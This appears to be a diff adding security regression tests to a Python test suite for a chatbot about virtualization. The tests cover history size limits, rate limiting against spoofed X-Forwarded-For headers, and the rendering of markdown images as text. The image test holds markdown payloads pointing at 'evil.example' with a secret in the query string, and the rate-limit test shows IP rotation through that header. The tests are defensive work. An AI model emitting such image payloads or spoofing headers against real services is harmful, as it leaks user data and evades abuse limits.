@@ -9,12 +9,12 @@ from fastapi.testclient import TestClient
 from bot.answer import Answer, Citation
 from bot.chain import Bot
 from bot.embeddings import embeddings_name, make_embeddings
-from bot.evaluation import load_dataset
 from bot.feedback import FeedbackStore
 from bot.indexing import ingest
 from bot.settings import Settings
 from bot.ui import render_answer, render_sources, render_taxonomy
 from bot.web import create_app
+from evals.scoring import load_dataset
 
 
 @pytest.fixture(scope="module")
@@ -180,3 +180,112 @@ def test_taxonomy_places_every_entity_with_what_it_virtualizes(fake_bot):
         if cat.members:
             assert cat.name["en"].replace("&", "&amp;") in page
     assert "整台机器" in page  # KVM's "virtualizes" axis, in Chinese
+
+
+# --- issue 16 -------------------------------------------------------------------------------------
+
+
+class RecordingBot:
+    """The module's bot, recording the history each question arrives with."""
+
+    def __init__(self, bot) -> None:
+        self._bot, self.histories = bot, []
+        self.corpus, self.retriever, self.embedder, self.backend = bot.corpus, bot.retriever, bot.embedder, bot.backend
+
+    def ask(self, question, history=None):
+        self.histories.append(history)
+        return self._bot.ask(question, history)
+
+    def stream(self, question, history=None):
+        self.histories.append(history)
+        return self._bot.stream(question, history)
+
+
+def test_history_is_bounded_at_every_door(indexed, fake_bot, tmp_path):
+    """Item 4: history turns were normalised (NFKC: U+FDFA is 18 characters) and scanned whole."""
+    from bot.cli import _read_history
+    from bot.history import MAX_TURN_CHARS, MAX_TURNS
+
+    recorder = RecordingBot(fake_bot)
+    turns = [{"role": "user", "content": "KVM 是什么？" + "\ufdfa" * 50_000}] * 5
+    turns += [{"role": "assistant", "content": "x"}, "not a turn", {"role": "robot"}] * 3000
+    turns.append({"role": "user", "content": "KVM 是什么？"})
+    well_formed = [t for t in turns if isinstance(t, dict) and "content" in t]
+    body = json.dumps({"question": "它需要硬件支持吗？", "history": well_formed}, ensure_ascii=False)
+    assert len(body.encode()) < 1_000_000
+    with TestClient(create_app(indexed[0], recorder)) as c:
+        r = c.post("/api/ask", content=body, headers={"content-type": "application/json"})
+    assert r.status_code == 200 and "kvm" in r.json()["entities"]
+    path = tmp_path / "turns.json"
+    path.write_text(json.dumps(turns), encoding="utf-8")
+    for history in (recorder.histories[0], _read_history_lenient(path)):
+        assert 0 < len(history) <= MAX_TURNS
+        assert all(len(t["content"]) <= MAX_TURN_CHARS for t in history)
+        assert history[-1] == {"role": "user", "content": "KVM 是什么？"}  # the latest turns are the ones kept
+    good = tmp_path / "good.json"
+    good.write_text(json.dumps(well_formed), encoding="utf-8")
+    cli_history = _read_history(str(good))
+    assert len(cli_history) <= MAX_TURNS and all(len(t["content"]) <= MAX_TURN_CHARS for t in cli_history)
+
+
+def _read_history_lenient(path):
+    from bot.history import bounded
+
+    return bounded(json.loads(path.read_text(encoding="utf-8")))
+
+
+def _serve_like_bot_serve(settings, bot):
+    """create_app under uvicorn with the configuration `python -m bot serve` uses (web.server_config)."""
+    from uvicorn_thread import UvicornThread
+
+    from bot.web import server_config
+
+    app = create_app(settings, bot)
+    return UvicornThread(app, config=server_config(settings, app))
+
+
+def test_a_new_x_forwarded_for_per_request_does_not_escape_the_rate_limit(indexed, fake_bot):
+    """Item 9: uvicorn believed X-Forwarded-For from 127.0.0.1, so each request could claim a new client."""
+    from dataclasses import replace
+
+    import httpx
+
+    srv = _serve_like_bot_serve(replace(indexed[0], rate_limit=3), fake_bot)
+    try:
+        codes = [
+            httpx.post(
+                srv.url + "/api/ask", json={"question": "KVM?"}, headers={"X-Forwarded-For": f"10.0.0.{i}"}, timeout=30
+            ).status_code
+            for i in range(4)
+        ]
+    finally:
+        srv.stop()
+    assert codes == [200, 200, 200, 429]
+
+
+def test_a_trusted_proxy_s_x_forwarded_for_tells_clients_apart(indexed, fake_bot):
+    from dataclasses import replace
+
+    import httpx
+
+    srv = _serve_like_bot_serve(replace(indexed[0], rate_limit=2, trusted_proxies="127.0.0.1"), fake_bot)
+    try:
+        codes = [
+            httpx.post(srv.url + "/api/ask", json={"question": "KVM?"}, headers={"X-Forwarded-For": ip}, timeout=30).status_code
+            for ip in ("10.0.0.1", "10.0.0.1", "10.0.0.2", "10.0.0.1")
+        ]
+    finally:
+        srv.stop()
+    assert codes == [200, 200, 200, 429]
+
+
+def test_markdown_images_are_shown_as_text_never_rendered():
+    """Item 8: `![x](https://host/...)` in a question or an LLM reply made the browser fetch from any host."""
+    for text in (
+        "![x](https://evil.example/p.png?q=secret)",
+        "![x][r]\n\n[r]: https://evil.example/p.png",
+        "![](//evil.example/a)",
+    ):
+        answer = Answer(text=text, lang="en", intent="chat", entities=[], refused=False)
+        shown = render_answer(answer)
+        assert "![" not in shown and "evil.example" in shown
